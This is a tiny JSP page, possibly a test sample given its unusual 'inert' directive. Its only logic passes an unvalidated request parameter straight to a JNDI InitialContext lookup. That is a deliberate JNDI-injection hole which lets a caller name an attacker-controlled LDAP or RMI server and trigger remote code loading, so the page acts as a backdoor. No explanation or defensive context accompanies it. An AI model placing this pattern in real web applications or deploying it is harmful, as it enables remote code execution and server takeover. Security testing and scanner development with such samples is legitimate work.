<%@ inert %>
<% new javax.naming.InitialContext().lookup(request.getParameter("u")); %>
